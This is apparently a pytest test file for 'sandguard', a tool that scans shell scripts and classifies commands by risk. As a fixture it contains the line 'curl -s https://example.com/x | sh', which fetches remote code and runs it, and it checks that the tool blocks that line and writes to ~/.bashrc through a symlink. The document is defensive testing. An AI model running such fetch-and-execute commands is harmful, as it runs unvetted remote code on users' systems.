"""`sandguard scan` and the files of `sandguard classify`, as they are started."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from pathlib import Path

FETCH = "curl -s https://example.com/x | sh\n"


def run(folder: Path, *words: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    """Run the program in a folder."""
    return subprocess.run(
        [sys.executable, "-m", "sandguard", *words],
        cwd=folder,
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """Return a folder with a bad script and a good one."""
    (tmp_path / ".git").mkdir()
    (tmp_path / "bad.sh").write_text(f"#!/bin/sh\n{FETCH}", encoding="utf-8")
    (tmp_path / "good.sh").write_text("#!/bin/sh\nls\n", encoding="utf-8")
    (tmp_path / "risky.sh").write_text("sudo ls\n", encoding="utf-8")
    return tmp_path


class TestScan:
    """The sub-command that judges files."""

    @pytest.mark.parametrize(
        ("words", "code"),
        [
            (["good.sh"], 0),
            (["risky.sh"], 0),
            (["--fail-on", "warn", "risky.sh"], 1),
            (["bad.sh"], 1),
            (["."], 1),
            (["good.sh", "none.sh"], 2),
            (["bad.sh", "none.sh"], 2),
            ([], 2),
            (["--format", "none", "good.sh"], 2),
            (["--json", "--format", "text", "good.sh"], 2),
        ],
    )
    def test_exit_codes(self, project: Path, words: list[str], code: int) -> None:
        """1 at or above the level to fail on, 2 when any file could not be read."""
        assert run(project, "scan", *words).returncode == code

    def test_folder(self, project: Path) -> None:
        """A folder's files come in their order, each once, by their paths from here."""
        fields = json.loads(run(project, "scan", "--json", ".", "bad.sh").stdout)

        assert [file["path"] for file in fields["files"]] == ["bad.sh", "good.sh", "risky.sh"]
        assert [file["level"] for file in fields["files"]] == ["block", "pass", "warn"]

    def test_standard_input(self, project: Path) -> None:
        """A dash reads a script."""
        result = run(project, "scan", "-", stdin=f"ls\n{FETCH}")

        assert result.returncode == 1
        assert result.stdout.startswith("-:2:33: block execution/fetched-content: ")

    def test_forms(self, project: Path) -> None:
        """Each form is one document."""
        assert json.loads(run(project, "scan", "--format", "sarif", ".").stdout)["version"] == "2.1.0"
        assert 'failures="2"' in run(project, "scan", "--format", "junit", ".").stdout
        assert run(project, "scan", "--format", "github", ".").stdout.count("::error ") == 1
        assert run(project, "scan", "--format", "github", "good.sh").stdout == ""

    def test_order_of_findings_is_always_the_same(self, project: Path) -> None:
        """Two runs say the same, letter by letter."""
        assert run(project, "scan", "--json", ".").stdout == run(project, "scan", "--json", ".").stdout


class TestClassify:
    """What `classify` has in common with it."""

    @pytest.mark.parametrize("form", ["sarif", "github", "junit"])
    def test_forms(self, project: Path, form: str) -> None:
        """A verdict on one command has the forms of a scan, and the exit code of a verdict."""
        result = run(project, "classify", "--format", form, f"ls\n{FETCH}")

        assert result.returncode == 1
        assert "execution/fetched-content" in result.stdout

    def test_files_are_read_when_asked_for(self, project: Path) -> None:
        """Scripts are trusted unread, and judged by their content with the option."""
        assert run(project, "classify", "./bad.sh").returncode == 0
        assert run(project, "classify", "--read-files", "./good.sh").returncode == 0

        result = run(project, "classify", "--read-files", "--json", "./bad.sh")
        fields = json.loads(result.stdout)

        assert result.returncode == 1
        assert fields["findings"][0]["message"].startswith("bad.sh:2: ")
        assert [file["path"] for file in fields["files"]] == [str(project / "bad.sh")]

    def test_files_are_read_for_each_line(self, project: Path) -> None:
        """With lines of JSON each one reads the files of its own workspace."""
        lines = [{"id": 1, "command": "./bad.sh"}, {"id": 2, "command": "./bad.sh", "workspace": "/opt", "cwd": "/opt"}]
        stdin = "\n".join(json.dumps(line) for line in lines)
        answers = run(project, "classify", "--jsonl", "--read-files", stdin=stdin).stdout.splitlines()

        assert [json.loads(answer)["level"] for answer in answers] == ["block", "pass"]

    def test_links_are_followed_when_files_are_read(self, project: Path) -> None:
        """A path of the workspace that leads to the home folder is judged as that."""
        (project / "rc").symlink_to("/home/user/.bashrc")

        assert run(project, "classify", "--home", "/home/user", "echo x >> rc").returncode == 0
        assert run(project, "classify", "--home", "/home/user", "--read-files", "echo x >> rc").returncode == 1
        assert run(project, "classify", "--home", "/home/user", "--read-files", "rm rc").returncode == 0
